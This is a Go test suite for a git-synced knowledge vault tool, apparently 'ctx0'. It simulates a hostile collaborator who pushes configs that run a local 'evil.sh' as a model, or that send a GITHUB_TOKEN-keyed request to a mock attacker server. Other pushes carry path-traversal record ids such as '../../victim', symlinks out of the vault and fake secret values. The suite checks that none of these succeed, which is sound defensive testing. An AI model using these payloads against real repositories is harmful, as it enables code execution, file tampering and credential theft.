//go:build unix

package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ctx0/ctx0/vault"
)

// hostile is the world of the hostile-collaborator test: a victim's vault
// and an attacker's plain git clone of their shared remote (collaborators),
// plus what the attacker aims at on the victim's machine: a program that
// leaves a mark when it runs, an HTTP server that counts what reaches it,
// files outside the vault, and the victim's machine-local session store.
type hostile struct {
	*collaborators
	evil     string       // a program that writes owned when run
	owned    string       // the mark it leaves
	requests atomic.Int64 // requests that reached the attacker's server
	server   *httptest.Server
	outside  map[string]string // files outside the vault: path -> content
	sessions int               // conversations in the victim's store
}

func newHostile(t *testing.T) *hostile {
	t.Helper()
	h := &hostile{collaborators: newCollaborators(t)}
	h.owned = filepath.Join(h.dir, "owned")
	h.evil = filepath.Join(h.dir, "evil.sh")
	if err := os.WriteFile(h.evil, []byte("#!/bin/sh\necho ran >> "+h.owned+"\ncat >/dev/null\necho '{}'\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	h.server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.requests.Add(1)
		http.Error(w, "no", http.StatusTeapot)
	}))
	t.Cleanup(h.server.Close)
	t.Setenv("GITHUB_TOKEN", "ghp_"+strings.Repeat("A1b2", 9))
	// What a record's id or a link could reach: the vault's parent, and a
	// folder beside it.
	h.outside = map[string]string{
		filepath.Join(h.dir, "victim.yaml"):         "the victim's own file, beside the vault\n",
		filepath.Join(h.dir, "outside", "keep.txt"): "a file outside the vault\n",
	}
	for p, data := range h.outside {
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// The victim's local session store holds a conversation.
	if _, e, code := h.try(session, "dump"); code != exitOK {
		t.Fatalf("ctx0 dump: exit %d: %s", code, e)
	}
	h.sessions = h.conversations()
	if h.sessions == 0 {
		t.Fatal("the victim's session store holds no conversation after ctx0 dump")
	}
	return h
}

// conversations counts the conversations in the victim's session store.
func (h *hostile) conversations() int {
	h.t.Helper()
	out, _ := h.ctx0("conversations", "--json")
	var list []json.RawMessage
	if err := json.Unmarshal([]byte(out), &list); err != nil {
		h.t.Fatalf("ctx0 conversations --json: %v\n%s", err, out)
	}
	return len(list)
}

// write writes a file of the attacker's clone.
func (h *hostile) write(rel, data string) {
	h.t.Helper()
	p := filepath.Join(h.attacker, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		h.t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
		h.t.Fatal(err)
	}
}

// commitAndPush commits everything in the attacker's clone (force-adding
// what its .gitignore leaves out) and pushes it.
func (h *hostile) commitAndPush(paths ...string) {
	h.t.Helper()
	if len(paths) == 0 {
		paths = []string{"-A"}
	}
	h.git(h.attacker, append([]string{"add", "-f"}, paths...)...)
	h.git(h.attacker, "commit", "-q", "-m", "helpful changes")
	h.pushAttacker()
}

// record is a conflict record file with the given id.
func record(id string) string {
	return "id: " + id + "\nentry: knowledge/deploys\npath: knowledge/deploys.md\nfield: title\nkept: ours\nwhen: 2026-01-28T09:00:00Z\n"
}

// victimWorks is a day of work on the victim's machine after the push:
// sync, then every command that reads what sync brought, acts on records,
// runs a model or the curator. None may fail for what the attacker pushed.
func (h *hostile) victimWorks() {
	h.t.Helper()
	h.ctx0("sync")
	h.ctx0("conflicts")
	for _, id := range []string{"../../victim", "../config", "me"} {
		h.try("", "conflicts", "resolve", id) // refused or nothing to do: either way nothing outside moves
	}
	h.ctx0("retrieve", "when do deploys go out?")
	h.ctx0("librarian", "run", "--all")
	h.ctx0("curator", "run")
	h.ctx0("status")
}

// settle is the person's repair, as doctor tells it: doctor --fix, then
// each change a sync set aside marked resolved once looked at. After it,
// doctor must find nothing.
func (h *hostile) settle() {
	h.t.Helper()
	h.try("", "doctor", "--fix")
	v, err := vault.Open(h.t.Context(), h.victim)
	if err != nil {
		h.t.Fatal(err)
	}
	asides, _, err := v.SetAsides(h.t.Context())
	if err != nil {
		h.t.Fatal(err)
	}
	for _, a := range asides {
		h.ctx0("conflicts", "resolve", a.ID)
	}
	if out, errs, code := h.try("", "doctor"); code != exitOK {
		h.t.Errorf("ctx0 doctor after doctor --fix and resolving what sync set aside: exit %d\n%s%s", code, out, errs)
	}
}

// converge makes one honest change on each side and checks that the
// victim, the remote and the attacker's clone end on one commit.
func (h *hostile) converge() {
	h.t.Helper()
	h.git(h.attacker, "pull", "-q", "--no-rebase", "origin", "main")
	h.write("knowledge/honest-note.md", "---\ntitle: Honest note\ntype: note\n---\nThe release train leaves at noon.\n")
	h.commitAndPush("knowledge/honest-note.md")
	h.ctx0("sync")
	if _, err := os.Stat(filepath.Join(h.victim, "knowledge", "honest-note.md")); err != nil {
		h.t.Errorf("the next honest change did not arrive: %v", err)
	}
	h.ctx0("remember", "The victim's honest reply: noon suits us.")
	h.ctx0("sync")
	h.git(h.attacker, "pull", "-q", "--no-rebase", "origin", "main")
	heads := []string{
		h.git(h.victim, "rev-parse", "HEAD"),
		h.git(h.remote, "rev-parse", "main"),
		h.git(h.attacker, "rev-parse", "HEAD"),
	}
	if heads[0] != heads[1] || heads[1] != heads[2] {
		h.t.Errorf("victim, remote and attacker do not converge: %q", heads)
	}
}

// check holds the promises: nothing ran or reached out, nothing outside the
// vault changed, local state is intact, no secret reached the remote, and
// git finds every repository sound.
func (h *hostile) check() {
	h.t.Helper()
	filepath.WalkDir(h.dir, func(p string, d fs.DirEntry, err error) error {
		if err == nil && d.Name() == "owned" {
			h.t.Errorf("the attacker's program ran: %s exists", p)
		}
		return nil
	})
	if n := h.requests.Load(); n > 0 {
		h.t.Errorf("%d request(s) reached the attacker's address", n)
	}
	for p, want := range h.outside {
		got, err := os.ReadFile(p)
		if err != nil || string(got) != want {
			h.t.Errorf("%s outside the vault changed: %q, %v", p, got, err)
		}
	}
	if entries, _ := os.ReadDir(filepath.Join(h.dir, "outside")); len(entries) != 1 {
		h.t.Errorf("the folder outside the vault holds %d files, want 1", len(entries))
	}
	if _, err := os.Stat(filepath.Join(h.victim, ".ctx0", "config.yaml")); err != nil {
		h.t.Errorf("the victim's config: %v", err)
	}
	store, err := os.ReadFile(filepath.Join(h.victim, ".ctx0", "state", "ingest.db"))
	if err != nil || !bytes.HasPrefix(store, []byte("SQLite format 3\x00")) {
		h.t.Errorf("the victim's session store is no longer its database (%v)", err)
	} else if n := h.conversations(); n < h.sessions {
		h.t.Errorf("the victim's session store holds %d conversations, had %d", n, h.sessions)
	}
	tracked := h.git(h.remote, "ls-tree", "-r", "--name-only", "main")
	for _, local := range []string{".ctx0/state/", ".ctx0/index.db"} {
		if strings.Contains(tracked, local) {
			h.t.Errorf("the remote holds machine-local %s:\n%s", local, tracked)
		}
	}
	if log := h.git(h.remote, "log", "-p", "main"); strings.Contains(log, os.Getenv("GITHUB_TOKEN")) {
		h.t.Error("the victim's token reached the remote")
	}
	if st := h.git(h.victim, "status", "--porcelain"); st != "" {
		h.t.Errorf("git status on the victim is not clean:\n%s", st)
	}
	for _, repo := range []string{h.victim, h.remote, h.attacker} {
		h.git(repo, "fsck", "--strict", "--no-progress")
	}
}

// TestHostileCollaborator: whoever can push to a vault's remote pushes,
// with plain git, each thing that once ran a program, reached the
// network, deleted a file outside the vault, replaced local state, stopped
// sync for good or carried a secret off the victim's machine. After each
// push the victim works as usual; then nothing ran, nothing outside the
// vault changed, local state is intact, doctor (after --fix and the
// person's look at what was set aside) is clean, the next honest change
// converges, and git fsck is clean on all three repositories.
func TestHostileCollaborator(t *testing.T) {
	cases := []struct {
		name string
		push func(h *hostile)
		// fix is what the person does when sync says what it would not
		// commit, if anything.
		fix func(h *hostile)
	}{
		{"a model that is a program", func(h *hostile) {
			h.push(fmt.Sprintf("llm:\n  provider: command\n  command: [%q]\n", h.evil))
		}, nil},
		{"a model at the attacker's address", func(h *hostile) {
			h.push(fmt.Sprintf("llm:\n  provider: openai\n  base_url: %s/v1\n  api_key_env: GITHUB_TOKEN\n  model: m\n", h.server.URL))
		}, nil},
		{"embeddings at the attacker's address", func(h *hostile) {
			h.push(fmt.Sprintf("embeddings:\n  url: %s/v1/embeddings\n  api_key_env: GITHUB_TOKEN\n", h.server.URL))
		}, nil},
		{"automatic sync turned on", func(h *hostile) {
			h.push("sync:\n  auto: true\n")
		}, nil},
		{"a config of a newer ctx0", func(h *hostile) {
			h.push("telemetry:\n  endpoint: " + h.server.URL + "\n")
		}, nil},
		{"conflict records that climb out", func(h *hostile) {
			h.write(".ctx0/conflicts/climb.yaml", record("../../victim"))
			h.write(".ctx0/conflicts/config.yaml", record("../config"))
			h.write(".ctx0/conflicts/outside.yaml", record("../../outside/keep"))
			h.commitAndPush()
		}, nil},
		{"conflict records that do not parse", func(h *hostile) {
			h.write(".ctx0/conflicts/broken.yaml", "id: [0123456789ab\nentry: knowledge/deploys\n")
			h.write(".ctx0/conflicts/bare.yaml", "when: 2026-01-28T09:00:00Z\n")
			h.commitAndPush()
		}, nil},
		{"machine-local state, force-added", func(h *hostile) {
			h.write(".ctx0/state/ingest.db", "not a database")
			h.write(".ctx0/index.db", "not an index")
			h.write(".ctx0/state/hooks.log", "forged\n")
			h.commitAndPush()
		}, nil},
		{"a submodule", func(h *hostile) {
			tool := filepath.Join(h.dir, "tool")
			h.git(h.dir, "init", "-q", tool)
			os.WriteFile(filepath.Join(tool, "README"), []byte("tool\n"), 0o644)
			h.git(tool, "add", "README")
			h.git(tool, "commit", "-q", "-m", "tool")
			sha := strings.TrimSpace(h.git(tool, "rev-parse", "HEAD"))
			h.git(h.attacker, "update-index", "--add", "--cacheinfo", "160000,"+sha+",projects/tool")
			h.git(h.attacker, "commit", "-q", "-m", "a submodule")
			h.pushAttacker()
		}, nil},
		{"a folder where the victim has a file", func(h *hostile) {
			h.write("knowledge/clash.md/inner.md", "---\ntitle: Inner\ntype: note\n---\nInside a folder.\n")
			h.commitAndPush()
			mine := filepath.Join(h.victim, "knowledge", "clash.md")
			if err := os.WriteFile(mine, []byte("---\ntitle: Clash\ntype: note\n---\nThe victim's own note.\n"), 0o644); err != nil {
				h.t.Fatal(err)
			}
		}, nil},
		{"symbolic links out of the vault", func(h *hostile) {
			os.Symlink(filepath.Join(h.dir, "outside", "keep.txt"), filepath.Join(h.attacker, "knowledge", "keep.md"))
			os.Symlink("../../outside", filepath.Join(h.attacker, "knowledge", "out"))
			h.commitAndPush()
		}, nil},
		{"a repository inside the victim's vault", func(h *hostile) {
			nested := filepath.Join(h.victim, "projects", "tool")
			h.git(h.dir, "init", "-q", nested)
			os.WriteFile(filepath.Join(nested, "notes.md"), []byte("---\ntitle: Tool\n---\nA tool.\n"), 0o644)
			h.git(nested, "add", "notes.md")
			h.git(nested, "commit", "-q", "-m", "tool")
			h.write("knowledge/agenda.md", "---\ntitle: Agenda\ntype: note\n---\nRelease review on Monday.\n")
			h.commitAndPush("knowledge/agenda.md") // an honest change, so the sync merges
		}, func(h *hostile) {
			// As doctor says: the person lists the repository in .gitignore.
			ignore := filepath.Join(h.victim, ".gitignore")
			data, _ := os.ReadFile(ignore)
			os.WriteFile(ignore, append(data, "projects/tool/\n"...), 0o644)
			h.ctx0("sync")
		}},
		{"the victim's own secrets", func(h *hostile) {
			token := os.Getenv("GITHUB_TOKEN")
			// The person's global excludes keep .env out of git; a script
			// holding a token is no entry.
			os.MkdirAll(filepath.Join(h.dir, "home", ".config", "git"), 0o755)
			os.WriteFile(filepath.Join(h.dir, "home", ".config", "git", "ignore"), []byte(".env\n"), 0o644)
			os.WriteFile(filepath.Join(h.victim, ".env"), []byte("STRIPE_SECRET_KEY=sk_live_"+strings.Repeat("4eC39HqLyjWDarjtT1zdp7dc", 1)+"\n"), 0o600)
			os.WriteFile(filepath.Join(h.victim, "knowledge", "setup.sh"), []byte("curl -H 'Authorization: token "+token+"' https://api.github.com/user\n"), 0o644)
			os.WriteFile(filepath.Join(h.victim, "knowledge", "setup.md"), []byte("---\ntitle: Setup\ntype: note\n---\nThe token is "+token+".\n"), 0o644)
			h.write("knowledge/agenda.md", "---\ntitle: Agenda\ntype: note\n---\nRelease review on Monday.\n")
			h.commitAndPush("knowledge/agenda.md") // an honest change, so the sync merges
		}, func(h *hostile) {
			// Sync withheld the script and said why: the person takes the
			// token out of it.
			os.WriteFile(filepath.Join(h.victim, "knowledge", "setup.sh"), []byte("curl -H \"Authorization: token $GITHUB_TOKEN\" https://api.github.com/user\n"), 0o644)
			h.ctx0("sync")
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			h := newHostile(t)
			tc.push(h)
			h.victimWorks()
			if tc.fix != nil {
				tc.fix(h)
			}
			h.settle()
			h.check()
			if strings.Contains(h.git(h.remote, "log", "-p", "main"), "sk_live_") {
				t.Error("a secret the person's excludes keep out reached the remote")
			}
			h.converge()
			h.check()
		})
	}
}

// TestHostileCollaboratorWithTheDaemon: the victim syncs automatically
// (approved on this machine) with ctx0 daemon running. The attacker pushes
// a model that is a program, an escaping conflict record and force-added
// local state; the daemon pulls them by itself and files a session the
// victim hands over meanwhile. Nothing runs, nothing outside the vault is
// touched, and the victim's store is its own.
func TestHostileCollaboratorWithTheDaemon(t *testing.T) {
	if testing.Short() {
		t.Skip("runs ctx0 daemon for several seconds")
	}
	h := newHostile(t)
	cfg := filepath.Join(h.victim, ".ctx0", "config.yaml")
	data, err := os.ReadFile(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(cfg, append(data, "sync:\n  auto: true\n"...), 0o644); err != nil {
		t.Fatal(err)
	}
	h.ctx0("trust")
	h.ctx0("sync")
	h.git(h.attacker, "pull", "-q", "--no-rebase", "origin", "main")

	daemon := exec.Command("ctx0", "--vault", h.victim, "daemon", "--json", "--interval", "1s")
	var log bytes.Buffer
	daemon.Stdout, daemon.Stderr = &log, &log
	if err := daemon.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() { daemon.Wait(); close(done) }()
	stopped := false
	stop := func() {
		if !stopped {
			stopped = true
			daemon.Process.Signal(os.Interrupt)
			<-done
		}
	}
	defer stop()

	cfgA := filepath.Join(h.attacker, ".ctx0", "config.yaml")
	dataA, _ := os.ReadFile(cfgA)
	h.write(".ctx0/config.yaml", string(dataA)+fmt.Sprintf("llm:\n  provider: command\n  command: [%q]\n", h.evil))
	h.write(".ctx0/conflicts/climb.yaml", record("../../victim"))
	h.write(".ctx0/state/ingest.db", "not a database")
	h.commitAndPush()
	pushed := strings.TrimSpace(h.git(h.attacker, "rev-parse", "HEAD"))

	// The daemon pulls by itself: wait until the victim holds the push.
	for deadline := time.Now().Add(90 * time.Second); ; {
		if exec.Command("git", "-C", h.victim, "merge-base", "--is-ancestor", pushed, "HEAD").Run() == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the daemon did not pull the push within 90 s; its log:\n%s", log.String())
		}
		time.Sleep(200 * time.Millisecond)
	}
	// A session handed over now is filed with the model this machine
	// approved (none: offline), not the pushed one.
	if _, e, code := h.try(strings.Replace(session, "s-1", "s-2", 1), "dump"); code != exitOK {
		t.Fatalf("ctx0 dump: exit %d: %s", code, e)
	}
	h.ctx0("librarian", "run", "--all")
	stop()
	if strings.Contains(log.String(), "panic") {
		t.Errorf("the daemon's log:\n%s", log.String())
	}
	h.victimWorks()
	h.settle()
	h.check()
	h.converge()
	h.check()
}
